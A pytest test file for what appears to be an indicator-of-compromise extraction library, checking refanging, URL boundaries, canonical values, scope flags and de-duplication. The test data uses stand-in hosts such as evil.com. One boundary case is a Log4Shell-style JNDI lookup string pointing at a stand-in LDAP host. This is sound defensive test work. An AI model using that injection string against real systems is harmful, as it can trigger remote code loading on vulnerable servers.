"""Extraction through its public API: refang, boundaries, canonical values, precision."""

from __future__ import annotations

import pytest

from iocdesk.extraction.extract import IndicatorCollector, extract
from iocdesk.indicators.types import IndicatorType, Scope, Source


def pairs(text: str, hosts: bool = False, **kw) -> set[tuple[str, str]]:
    """What the scanner finds; hosts of URLs and e-mail addresses only when asked (their own tests below)."""
    return {(str(i.type), i.value) for i in extract(text, hosts=hosts, **kw)}


def one(text: str):
    found = extract(text, hosts=False)
    assert len(found) == 1, [(i.type, i.value) for i in found]
    return found[0]


# -- refang -----------------------------------------------------------------------------

REFANG_CASES = [
    ("hxxp://example[.]com/path", ("url", "http://example.com/path")),
    ("hxxps://evil[.]ru/a", ("url", "https://evil.ru/a")),
    ("hXXp://evil.ru/a", ("url", "http://evil.ru/a")),
    ("HXXPS://EVIL.RU/Path", ("url", "https://evil.ru/Path")),
    ("fxp://files.evil.ru/x.bin", ("url", "ftp://files.evil.ru/x.bin")),
    ("hxxp[:]//evil.ru/a", ("url", "http://evil.ru/a")),
    ("hxxp[://]evil.ru/a", ("url", "http://evil.ru/a")),
    ("http[:]//evil.ru/a", ("url", "http://evil.ru/a")),
    ("https:[//]evil.ru/a", ("url", "https://evil.ru/a")),
    ("http://evil.ru[/]a", ("url", "http://evil.ru/a")),
    ("h**p://evil.ru/a", ("url", "http://evil.ru/a")),
    ("http:\\\\evil.ru/a", ("url", "http://evil.ru/a")),
    ("evil[.]com", ("domain", "evil.com")),
    ("evil(.)com", ("domain", "evil.com")),
    ("evil{.}com", ("domain", "evil.com")),
    ("evil[dot]com", ("domain", "evil.com")),
    ("evil(dot)com", ("domain", "evil.com")),
    ("evil[DOT]com", ("domain", "evil.com")),
    ("evil dot com", ("domain", "evil.com")),
    ("evil\\.com", ("domain", "evil.com")),
    ("evil [.] com", ("domain", "evil.com")),
    ("sub[.]evil[.]co[.]uk", ("domain", "sub.evil.co.uk")),
    ("evil。com", ("domain", "evil.com")),
    ("1.2.3[.]4", ("ipv4", "1.2.3.4")),
    ("1[.]2[.]3[.]4", ("ipv4", "1.2.3.4")),
    ("1(.)2(.)3(.)4", ("ipv4", "1.2.3.4")),
    ("8[.]8[.]8[.]8:53", ("ipv4", "8.8.8.8")),
    ("user[@]evil.com", ("email", "user@evil.com")),
    ("user(at)evil(dot)com", ("email", "user@evil.com")),
    ("user[at]evil[.]com", ("email", "user@evil.com")),
    ("user [at] evil [dot] com", ("email", "user@evil.com")),
    ("user(@)evil.com", ("email", "user@evil.com")),
    ("hxxp://1.2.3[.]4:8080/gate.php", ("url", "http://1.2.3.4:8080/gate.php")),
    ("hxxp://evil\u200b.com/a", ("url", "http://evil.com/a")),
    ("http:\\/\\/evil.com\\/a\\/b", ("url", "http://evil.com/a/b")),
]


@pytest.mark.parametrize("text,expected", REFANG_CASES, ids=[c[0] for c in REFANG_CASES])
def test_refang_forms(text, expected):
    found = one(text)
    assert (str(found.type), found.value) == expected
    if text != "http:\\/\\/evil.com\\/a\\/b":
        assert found.defanged, "the input was defanged"


def test_plain_indicators_are_not_marked_defanged():
    for text in ("http://evil.com/a", "evil.com", "1.2.3.4", "a@evil.com", "2001:4860::8888"):
        assert not one(text).defanged, text


def test_defanged_flag_is_per_indicator_and_sticky():
    found = extract("evil.com and later evil[.]com, but 8.8.8.8 plain")
    by_value = {i.value: i for i in found}
    assert by_value["evil.com"].defanged and by_value["evil.com"].count == 2
    assert not by_value["8.8.8.8"].defanged


def test_spelled_out_dot_chains_and_unicode_words():
    assert pairs("auth dot promo837 dot co dot in") == {("domain", "auth.promo837.co.in")}
    assert pairs("azure-update dot us") == {("domain", "azure-update.us")}
    assert pairs("президент dot рф") == {("domain", "xn--d1abbgf6aiiy.xn--p1ai")}
    assert pairs("owa dot ελλάδα dot gr") == {("domain", "owa.xn--hxakic4aa.gr")}
    assert pairs("invoice dot promo dot me") == {("domain", "invoice.promo.me")}
    assert pairs("café dot fr") == {("domain", "xn--caf-dma.fr")}


def test_version_after_json_keys_is_not_an_ip():
    assert pairs('{"agent_version": "1.12.7.142", "fw_rev": "4.2.0.1"}') == set()
    assert pairs("src_ip=8.8.4.4") == {("ipv4", "8.8.4.4")}


def test_upper_case_tld_beside_caseless_labels():
    assert pairs("IMG.例え.JP") == {("domain", "img.xn--r8jz45g.jp")}


def test_prose_dot_is_not_refanged():
    assert pairs("the dot com bubble burst; click the red dot in the corner") == set()


# -- canonical values -------------------------------------------------------------------


def test_host_case_and_path_kept_as_written():
    url = one("HTTPS://Evil.EXAMPLE.ru/Login.PHP?Next=/A")
    assert url.value == "https://evil.example.ru/Login.PHP?Next=/A"
    assert url.host == "evil.example.ru"


def test_idn_values_are_a_labels_and_display_is_unicode():
    found = one("visit bücher.de today")
    assert found.value == "xn--bcher-kva.de"
    assert found.display == "bücher.de"
    url = one("http://пример.рф/путь")
    assert url.value == "http://xn--e1afmkfd.xn--p1ai/путь"
    assert url.display == "http://пример.рф/путь"


def test_punycode_input_is_displayed_as_written():
    found = one("xn--80ak6aa92e.com")
    assert found.value == found.display == "xn--80ak6aa92e.com"


def test_ipv6_compressed_and_lower_case():
    assert one("2001:0DB8:0000:0000:0000:0000:0000:0001").value == "2001:db8::1"
    assert one("address FE80::1 on eth0").value == "fe80::1"
    assert one("[2001:4860:4860::8888]:53").value == "2001:4860:4860::8888"
    assert one("::ffff:8.8.8.8").value == "::ffff:808:808" or one("::ffff:8.8.8.8").type == "ipv6"


def test_hashes_lower_case_and_typed():
    text = (
        "44D88612FEA8A8F36DE82E1278ABB02F "
        "3395856ce81f2b7382dee72602f798b642f14140 "
        "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f "
        "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce"
        "47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e"
    )
    assert [(str(i.type), i.value) for i in extract(text)] == [
        ("md5", "44d88612fea8a8f36de82e1278abb02f"),
        ("sha1", "3395856ce81f2b7382dee72602f798b642f14140"),
        ("sha256", "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"),
        (
            "sha512",
            (
                "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce"
                "47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e"
            ),
        ),
    ]


def test_all_letter_hex_is_a_hash_all_digits_is_not():
    assert pairs("a" * 40) == {("sha1", "a" * 40)}
    assert pairs("0" * 32 + " " + "1234567890" * 4) == set()


def test_cve_upper_case():
    assert pairs("see cve-2021-44228 and CVE_2017_0144") == {("cve", "CVE-2021-44228"), ("cve", "CVE-2017-0144")}


def test_email_lower_cased_display_as_written():
    found = one("Mail John.Doe+x@Evil.COM now")
    assert (found.value, found.display) == ("john.doe+x@evil.com", "John.Doe+x@evil.com")
    assert one("bad@example.com Bad@Example.com").count == 2


def test_service_labels_and_overlong_labels():
    assert pairs("_jabber._tcp.gmail.com") == {("domain", "_jabber._tcp.gmail.com")}
    assert pairs("a" * 100 + ".bar.com") == {("domain", "bar.com")}
    assert pairs(".1.1.1.1 and 2018.12.15.14.05.43") == set()


# -- boundaries -------------------------------------------------------------------------

BOUNDARY_CASES = [
    ('<a href="http://evil.com/a?b=1&amp;c=2">click</a>', "http://evil.com/a?b=1&c=2"),
    ("<a href='http://evil.com/x'>x</a>", "http://evil.com/x"),
    ("<a href=http://evil.com/x>x</a>", "http://evil.com/x"),
    ("[click here](http://evil.com/path)", "http://evil.com/path"),
    ("(see http://evil.com/path).", "http://evil.com/path"),
    ("http://en.wikipedia.org/wiki/Foo_(bar)", "http://en.wikipedia.org/wiki/Foo_(bar)"),
    ('"http://evil.com/q"', "http://evil.com/q"),
    ("'http://evil.com/q'", "http://evil.com/q"),
    ("`http://evil.com/q`", "http://evil.com/q"),
    ("**http://evil.com/q**", "http://evil.com/q"),
    ("Go to http://evil.com/q.", "http://evil.com/q"),
    ("Go to http://evil.com/q, then", "http://evil.com/q"),
    ("Go to http://evil.com/q; then", "http://evil.com/q"),
    ("Really http://evil.com/q?!", "http://evil.com/q"),
    ("${jndi:ldap://evil.com:1389/Exploit}", "ldap://evil.com:1389/Exploit"),
    ("url=http://evil.com/q|next", "http://evil.com/q"),
    ("<http://evil.com/q>", "http://evil.com/q"),
    ("{'u': 'http://evil.com/q'}", "http://evil.com/q"),
    ("http://evil.com/q\u3000next", "http://evil.com/q"),
    ("Visithttp://evil.com/q now", "http://evil.com/q"),
]


@pytest.mark.parametrize("text,url", BOUNDARY_CASES, ids=[c[0] for c in BOUNDARY_CASES])
def test_url_ends_where_the_url_ends(text, url):
    assert pairs(text) == {("url", url)}


def test_csv_fields_do_not_glue():
    text = "http://a.evil.com/x,http://b.evil.com/y\n'http://c.evil.com/1','http://d.evil.com/2'"
    assert pairs(text) == {
        ("url", "http://a.evil.com/x"),
        ("url", "http://b.evil.com/y"),
        ("url", "http://c.evil.com/1"),
        ("url", "http://d.evil.com/2"),
    }


def test_domain_boundaries():
    assert pairs("(evil.com), [evil.com]; 'evil.com'. \"evil.com\"! *.evil.com **evil.com**") == {
        ("domain", "evil.com")
    }
    assert pairs("evil.com.") == {("domain", "evil.com")}
    assert pairs("_evil.com_") == {("domain", "evil.com")}


def test_ports_are_not_part_of_ips_or_domains():
    assert pairs("connect 1.2.3.4:4444 and evil.com:8443") == {("ipv4", "1.2.3.4"), ("domain", "evil.com")}


def test_scheme_less_urls():
    assert pairs("download evil.com/payload.exe now") == {("url", "evil.com/payload.exe")}
    assert pairs("1.2.3.4:8080/gate.php") == {("url", "1.2.3.4:8080/gate.php")}
    assert pairs("evil.com/") == {("domain", "evil.com")}


def test_standalone_domain_also_in_url_is_reported_once_each():
    assert pairs("evil.com hosts http://evil.com/a") == {("domain", "evil.com"), ("url", "http://evil.com/a")}


def test_nested_redirect_urls_are_both_reported():
    found = pairs("https://www.google.com/url?q=http://evil.com/landing&sa=D")
    assert ("url", "http://evil.com/landing&sa=D") in found
    assert len(found) == 2


def test_urls_wrapped_by_redirectors_and_mail_gateways():
    safelinks = "https://nam02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.com%2Flogin%3Fa%3D1&data=05"
    assert ("url", "https://evil.com/login?a=1") in pairs(safelinks)
    v2 = "https://urldefense.proofpoint.com/v2/url?u=https-3A__evil.com_path_x-3Fa-3D1&d=DwMFaQ&c=x"
    assert ("url", "https://evil.com/path/x?a=1") in pairs(v2)
    v3 = "https://urldefense.com/v3/__https://evil.com/path__;!!ABC!xyz$"
    assert pairs(v3) == {("url", "https://urldefense.com/v3/__https://evil.com/path"), ("url", "https://evil.com/path")}


def test_percent_encoded_urls_and_hosts_in_log_lines():
    line = (
        '1.2.3.4 - - [28/Nov/2026] "GET /wp-login.php?redirect_to=http%3A%2F%2Fevil.example.net%2Fx&a=1 HTTP/1.1" 200'
    )
    assert pairs(line) == {("ipv4", "1.2.3.4"), ("url", "http://evil.example.net/x")}
    assert pairs("path=%2Fevil.com%2Fx") == {("domain", "evil.com")}


def test_commas_end_csv_fields_but_not_queries():
    assert pairs("1,http://evil.com/a,malware,2026") == {("url", "http://evil.com/a")}
    row = "hxxp[:]//101[.]153[.]249[.]196/gate.php?v=vTgF5C,url,03/14/2022,26"
    assert pairs(f"indicator,type,date,score\n{row}") == {("url", "http://101.153.249.196/gate.php?v=vTgF5C")}
    assert pairs("see http://evil.com/abc,False,False") == {("url", "http://evil.com/abc")}
    assert pairs("http://a.com/?ids=1,2") == {("url", "http://a.com/?ids=1,2")}
    assert pairs("http://a.com/x,y/z") == {("url", "http://a.com/x,y/z")}


def test_hash_in_url_is_reported():
    sha = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
    found = pairs(f"https://www.virustotal.com/gui/file/{sha}/detection")
    assert ("sha256", sha) in found


def test_cidr_ranges_and_their_addresses():
    assert pairs("block 10.0.0.0/8 and 203.0.113.0/24") == {
        ("ipv4_cidr", "10.0.0.0/8"),
        ("ipv4", "10.0.0.0"),
        ("ipv4_cidr", "203.0.113.0/24"),
        ("ipv4", "203.0.113.0"),
    }
    assert pairs("2001:db8::/32") == {("ipv6_cidr", "2001:db8::/32"), ("ipv6", "2001:db8::")}
    assert pairs("1.1.1.1/0 evil.com/test") == {
        ("ipv4_cidr", "1.1.1.1/0"),
        ("ipv4", "1.1.1.1"),
        ("url", "evil.com/test"),
    }


def test_ip_range_with_hyphen():
    assert pairs("range 8.8.8.1-8.8.8.9") == {("ipv4", "8.8.8.1"), ("ipv4", "8.8.8.9")}


def test_asn():
    assert pairs("announced by AS15169 and ASN 13335.") == {("asn", "AS15169"), ("asn", "AS13335")}
    assert pairs("AS 12 as 13 BAS15169") == set()


# -- precision --------------------------------------------------------------------------

NEGATIVE_CASES = [
    "version 1.2.3.4",
    "Version: 10.1.2.3 released",
    "v1.2.3.4",
    "build 4.3.2.1",
    "10.0.19041.1",
    "1.2.3.4.5",
    "1.2.3",
    "256.1.1.1",
    "OID 1.3.6.1.4.1.311",
    "Mozilla/5.0 (Windows NT 10.0) Chrome/110.0.0.0 Safari/537.36",
    "open report.pdf and invoice.exe then run main.py",
    "setup.sh README.md archive.zip clip.mov lib.rs libc.so",
    "Invoice_2026.one nginx.pid config.inc Main.java installer.run app.js.map backup.tar.zip",
    "System.Net.Http and System.IO",
    "window.location.href = document.referrer",
    "subprocess.run(cmd) and re.search(x)",
    "com.google.android.gms and org.apache.commons.io",
    "end of sentence.The next one",
    "e.g. this i.e. that etc.",
    "3.14159 and 2.5.1",
    "12:34:56 and 00:1a:2b:3c:4d:5e",
    "std::string and A::B",
    "0x1234567890abcdef1234567890abcdef1",
    "00000000000000000000000000000000",
    "imphash: 18ddf28a71089acdbab5038f58044c0a",
    "JA3 e7d705a3286e19ea42f587b344ee6865",
    "authentihash 3f1b149d07e7e8636636b8b7f7043c40ed64a10b28986181fb046c498432c2d4",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855aa",
    "{6B29FC40-CA47-1067-B31D-00DD010662DA}",
    "C:\\Windows\\System32\\evil.dll",
    "http://localhost/admin",
    "http://intranet/login",
    "foo.notatld",
    "not-a-tld.invalidtld",
    "CVE-1990-1234",
    "user@localhost",
    "@evil.com",
    "image001.png@01D3A1B2.C3D4E5F0",
]


@pytest.mark.parametrize("text", NEGATIVE_CASES)
def test_negative(text):
    assert pairs(text) == set()


def test_file_extension_tlds_count_when_defanged_or_in_urls():
    assert pairs("payload at evil[.]zip") == {("domain", "evil.zip")}
    assert pairs("http://evil.zip/a") == {("url", "http://evil.zip/a")}
    assert pairs("cdn.evil.zip") == {("domain", "cdn.evil.zip")}


def test_polish_domains_are_domains():
    # .pl is left out of the file-extension TLDs: Polish phishing hosts outnumber Perl scripts
    assert pairs("assets.pl ACCOUNT-BANK.PL") == {("domain", "assets.pl"), ("domain", "account-bank.pl")}


def test_title_case_tld_accepted_when_defanged():
    assert pairs("Evil[.]Com") == {("domain", "evil.com")}


def test_ipv4_leading_zeros_read_as_decimal():
    assert pairs("010.001.001.001") == {("ipv4", "10.1.1.1")}


def test_tld_list_is_checked():
    assert pairs("evil.xyz evil.co.uk evil.technology evil.onion") == {
        ("domain", "evil.xyz"),
        ("domain", "evil.co.uk"),
        ("domain", "evil.technology"),
        ("domain", "evil.onion"),
    }
    assert pairs("evil.notatld") == set()


def test_email_local_part_validated():
    assert pairs(".john..doe@evil.com") == set() or pairs(".john..doe@evil.com") == {("domain", "evil.com")}
    assert pairs("john.@evil.com") == set()
    assert pairs("x" * 65 + "@evil.com") == set()


# -- scope ------------------------------------------------------------------------------

SCOPE_CASES = [
    ("10.1.2.3", Scope.PRIVATE),
    ("172.16.5.4", Scope.PRIVATE),
    ("192.168.1.1", Scope.PRIVATE),
    ("127.0.0.1", Scope.LOOPBACK),
    ("169.254.10.1", Scope.LINK_LOCAL),
    ("100.64.0.1", Scope.SHARED),
    ("192.0.2.1", Scope.DOCUMENTATION),
    ("198.51.100.7", Scope.DOCUMENTATION),
    ("203.0.113.9", Scope.DOCUMENTATION),
    ("224.0.0.251", Scope.MULTICAST),
    ("0.0.0.0", Scope.UNSPECIFIED),
    ("255.255.255.255", Scope.RESERVED),
    ("8.8.8.8", Scope.PUBLIC),
    ("::1", Scope.LOOPBACK),
    ("fe80::1", Scope.LINK_LOCAL),
    ("fd12:3456:789a::1", Scope.PRIVATE),
    ("2001:db8::5", Scope.DOCUMENTATION),
    ("2606:4700:4700::1111", Scope.PUBLIC),
    ("dc01.corp.local", Scope.INTERNAL),
    ("example.com", Scope.DOCUMENTATION),
]


@pytest.mark.parametrize("text,scope", SCOPE_CASES)
def test_reserved_addresses_are_flagged_not_dropped(text, scope):
    found = one(text)
    assert found.scope is scope
    assert found.lookup_by_default is (scope is Scope.PUBLIC)


def test_url_scope_follows_host():
    assert one("http://192.168.1.10/admin").scope is Scope.PRIVATE


# -- de-duplication, order, sources, filters --------------------------------------------


def test_first_seen_order_and_counts():
    found = extract("b.evil.com 1.2.3.4 a.evil.com b.evil.com 1.2.3.4 b.evil.com")
    assert [(i.value, i.count) for i in found] == [("b.evil.com", 3), ("1.2.3.4", 2), ("a.evil.com", 1)]


def test_types_filter():
    text = "evil.com 1.2.3.4 44d88612fea8a8f36de82e1278abb02f"
    assert pairs(text, types=["ipv4", IndicatorType.MD5]) == {
        ("ipv4", "1.2.3.4"),
        ("md5", "44d88612fea8a8f36de82e1278abb02f"),
    }
    with pytest.raises(ValueError):
        extract(text, types=["nope"])


def test_collector_merges_chunks_with_sources():
    collector = IndicatorCollector()
    collector.add_text("evil.com", Source(file="a.csv", row=2, column="ioc"))
    new = collector.add_text("evil.com 8.8.8.8", Source(file="a.csv", row=3, column="ioc"))
    assert [i.value for i in new] == ["8.8.8.8"]
    (domain, ip) = collector.results()
    assert domain.count == 2
    assert [s.row for s in domain.sources] == [2, 3]
    assert ip.to_dict()["sources"] == [{"file": "a.csv", "row": 3, "column": "ioc"}]


def test_to_dict_contract():
    data = one("hxxp://evil[.]com/a").to_dict()
    assert {"type", "value", "defanged", "count"} <= set(data)
    assert data == {
        "type": "url",
        "value": "http://evil.com/a",
        "display": "http://evil.com/a",
        "defanged": True,
        "count": 1,
        "scope": "public",
        "lookup": True,
        "host": "evil.com",
    }


def test_tld_list_is_versioned_and_complete():
    from iocdesk.extraction.tlds import iana_tlds, tld_list_version

    assert tld_list_version().startswith("20") and len(tld_list_version()) == 10
    tlds = iana_tlds()
    assert len(tlds) > 1000
    assert {"com", "uk", "xn--p1ai", "zip", "top"} <= tlds
    assert "onion" not in tlds  # special-use, handled apart
